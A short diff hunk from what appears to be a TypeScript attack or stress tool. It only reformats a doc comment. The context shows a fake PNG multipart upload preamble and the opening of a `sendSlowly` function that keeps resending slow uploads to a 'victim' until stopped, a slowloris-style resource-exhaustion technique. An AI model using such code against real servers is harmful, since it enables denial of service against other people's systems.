@@ -16,7 +16,9 @@ const answerMillisMax = 5_000
 const opening =
   '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n\x89PNG\r\n\x1a\n'
 
-/** Sends an upload slowly, and again when it was cut off, until told to stop; the rate of the address bounds how often. */
+/**
+ * Sends an upload slowly, and again when it was cut off, until told to stop; the rate of the address bounds how often.
+ */
 const sendSlowly = async (victim: Victim, address: string, isOver: () => boolean): Promise<number> => {
   let cutOff = 0
   while (!isOver()) {
